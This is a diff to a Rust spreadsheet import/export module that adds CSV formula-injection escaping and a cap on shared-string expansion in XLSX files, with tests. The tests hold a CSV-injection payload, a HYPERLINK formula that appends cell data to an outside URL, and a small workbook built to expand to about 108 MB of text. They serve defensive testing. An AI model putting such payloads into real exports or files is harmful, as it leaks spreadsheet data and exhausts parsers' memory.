@@ -4,7 +4,9 @@
 //! an XLSX (a zip) is checked entry by entry before calamine sees it — declared
 //! sizes, their total, the compression ratio, and the real decompressed size of
 //! every XML part read through a `take()` limit — and its first worksheet is
-//! streamed cell by cell, so neither a zip bomb nor a sheet that names cell
+//! streamed cell by cell, its text counted against the same cap (a shared
+//! string is copied into every cell that uses it), so neither a zip bomb, nor
+//! one long string named by many cells, nor a sheet that names cell
 //! XFD1048576 can allocate more than the caps allow. CSV is decoded as UTF-8
 //! (with or without BOM), UTF-16 with BOM, or whatever chardetng detects
 //! (GBK is read as its superset GB18030); undecodable bytes are refused.
@@ -244,7 +246,7 @@ fn read_csv(bytes: &[u8], max_rows: usize) -> Result<Vec<Vec<String>>, TableErro
                 }
                 let row = breaks_before.saturating_sub(embedded_breaks);
                 for (col, cell) in record.iter().enumerate() {
-                    place(&mut table, row, col, cell.to_string(), max_rows)?;
+                    place(&mut table, row, col, unescape_formula(cell), max_rows)?;
                     embedded_breaks += cell.matches('\n').count();
                 }
             }
@@ -252,6 +254,30 @@ fn read_csv(bytes: &[u8], max_rows: usize) -> Result<Vec<Vec<String>>, TableErro
         }
     }
     Ok(table)
+}
+
+/// The first characters that make Excel and WPS read a CSV cell as a formula.
+const FORMULA_LEADS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell as written to CSV: one that would start a formula gets a leading
+/// apostrophe, so a name such as `=HYPERLINK(…)` typed by one user is not run
+/// by the spreadsheet of another who opens an export (CSV injection). Text that
+/// starts with an apostrophe gets one more, so [`unescape_formula`] restores it.
+fn escape_formula(s: &str) -> String {
+    if s.starts_with(FORMULA_LEADS) || s.starts_with('\'') {
+        format!("'{s}")
+    } else {
+        s.to_string()
+    }
+}
+
+/// A CSV cell as read: the apostrophe [`escape_formula`] added is dropped again,
+/// so an exported file imports unchanged.
+fn unescape_formula(cell: &str) -> String {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_LEADS) || rest.starts_with('\'') => rest.to_string(),
+        _ => cell.to_string(),
+    }
 }
 
 // ---- XLSX ----
@@ -378,9 +404,18 @@ fn read_xlsx(bytes: &[u8], max_rows: usize) -> Result<Vec<Vec<String>>, TableErr
         .ok_or(TableError::NoWorksheet)?;
     let mut cells = book.worksheet_cells_reader(&name).map_err(calamine_error)?;
     let mut table = Vec::new();
+    // A shared string is stored once in the file but copied into every cell
+    // that refers to it, so the text read is capped like the parts themselves:
+    // otherwise a few kilobytes that name one long string in many cells expand
+    // to gigabytes here, past every check of `check_zip`.
+    let mut text_bytes: u64 = 0;
     while let Some(cell) = cells.next_cell().map_err(calamine_error)? {
         let (row, col) = cell.get_position();
         let value = cell_text(cell.get_value());
+        text_bytes = text_bytes.saturating_add(value.len() as u64);
+        if text_bytes > MAX_UNCOMPRESSED {
+            return Err(TableError::Bomb);
+        }
         place(&mut table, row as usize, col as usize, value, max_rows)?;
     }
     Ok(table)
@@ -496,17 +531,6 @@ pub fn write_xlsx_with_notes(
     book.save_to_buffer()
 }
 
-/// Text that a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, or a
-/// leading tab or carriage return) gets a leading apostrophe, so an exported
-/// CSV opened in Excel shows it instead of executing it.
-pub fn neutralise(s: &str) -> String {
-    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
-        format!("'{s}")
-    } else {
-        s.to_string()
-    }
-}
-
 /// A table as a file in `format`: the bytes, the extension and the MIME type.
 pub fn encode(
     format: Format,
@@ -525,7 +549,7 @@ pub fn encode(
 }
 
 /// A CSV in UTF-8 with a BOM, so Excel in China opens the Chinese correctly.
-/// Text cells are [`neutralise`]d.
+/// Text that would start a formula is escaped ([`escape_formula`]).
 pub fn write_csv(headers: &[Header], rows: &[Vec<Cell>]) -> Vec<u8> {
     let mut out = b"\xEF\xBB\xBF".to_vec();
     {
@@ -536,7 +560,7 @@ pub fn write_csv(headers: &[Header], rows: &[Vec<Cell>]) -> Vec<u8> {
         let _ = w.write_record(headers.iter().map(|h| h.title.as_str()));
         for row in rows {
             let _ = w.write_record(row.iter().map(|c| match c {
-                Cell::Text(s) => neutralise(s),
+                Cell::Text(s) => escape_formula(s),
                 other => other.text(),
             }));
         }
@@ -689,6 +713,52 @@ mod tests {
     }
 
     #[test]
+    fn csv_exports_escape_formulas_and_read_them_back_as_text() {
+        let headers = [
+            Header {
+                title: "名称".into(),
+                width: 10.0,
+                text: false,
+            },
+            Header {
+                title: "排序号".into(),
+                width: 10.0,
+                text: false,
+            },
+        ];
+        let names = [
+            "=HYPERLINK(\"http://example.com/?\"&A1,\"点我\")",
+            "+1+2",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "'=已经带引号",
+            "普通公司 = 好",
+        ];
+        let rows: Vec<Vec<Cell>> = names
+            .iter()
+            .map(|n| vec![Cell::Text(n.to_string()), Cell::Int(-2)])
+            .collect();
+        let csv = write_csv(&headers, &rows);
+        let text = String::from_utf8(csv.clone()).unwrap();
+        assert!(text.contains("\"'=HYPERLINK("), "{text}");
+        assert!(
+            text.contains("\r\n'+1+2,-2\r\n"),
+            "numbers stay numbers: {text}"
+        );
+        assert!(text.contains("\r\n'@SUM(A1),"), "{text}");
+        assert!(text.contains("\r\n普通公司 = 好,"), "{text}");
+        assert!(text.contains("\r\n''=已经带引号,"), "{text}");
+        let back = read_table("e.csv", &csv, 10).unwrap();
+        let got: Vec<&str> = back[1..].iter().map(|r| r[0].as_str()).collect();
+        assert_eq!(got, names);
+        assert!(back[1..].iter().all(|r| r[1] == "-2"));
+        // Files from elsewhere keep a lone apostrophe.
+        let t = read_table("x.csv", "名称,地址\r\n'甲,'=1\r\n".as_bytes(), 10).unwrap();
+        assert_eq!(t[1], ["'甲", "=1"]);
+    }
+
+    #[test]
     fn a_far_away_cell_is_refused_without_allocating_the_range() {
         let headers = [Header {
             title: "名称".into(),
@@ -758,6 +828,31 @@ mod tests {
         // A small part with an absurd ratio is refused too.
         let dense = zip_with("xl/sharedStrings.xml", &vec![b'a'; 8 << 20]);
         assert_eq!(read_table("d.xlsx", &dense, 10), Err(TableError::Bomb));
+    }
+
+    #[test]
+    fn one_long_shared_string_in_many_cells_is_refused() {
+        // 98 KB (Excel's longest cell) stored once, referenced by 1,100 cells:
+        // a 10 KB file whose cells hold 108 MB of text.
+        let long = "甲".repeat(32_767);
+        let mut book = rust_xlsxwriter::Workbook::new();
+        let sheet = book.add_worksheet();
+        sheet.write_string(0, 0, "名称").unwrap();
+        for r in 1..=1_100 {
+            sheet.write_string(r, 0, &long).unwrap();
+        }
+        let bytes = book.save_to_buffer().unwrap();
+        assert!(bytes.len() < 64 * 1024, "{} bytes", bytes.len());
+        assert_eq!(check_zip(&bytes), Ok(()), "every part is honest and small");
+        assert_eq!(read_table("s.xlsx", &bytes, 100_000), Err(TableError::Bomb));
+        // The same string in fewer cells is read.
+        let mut book = rust_xlsxwriter::Workbook::new();
+        let sheet = book.add_worksheet();
+        for r in 0..3 {
+            sheet.write_string(r, 0, &long).unwrap();
+        }
+        let bytes = book.save_to_buffer().unwrap();
+        assert_eq!(read_table("s.xlsx", &bytes, 10).unwrap().len(), 3);
     }
 
     #[test]
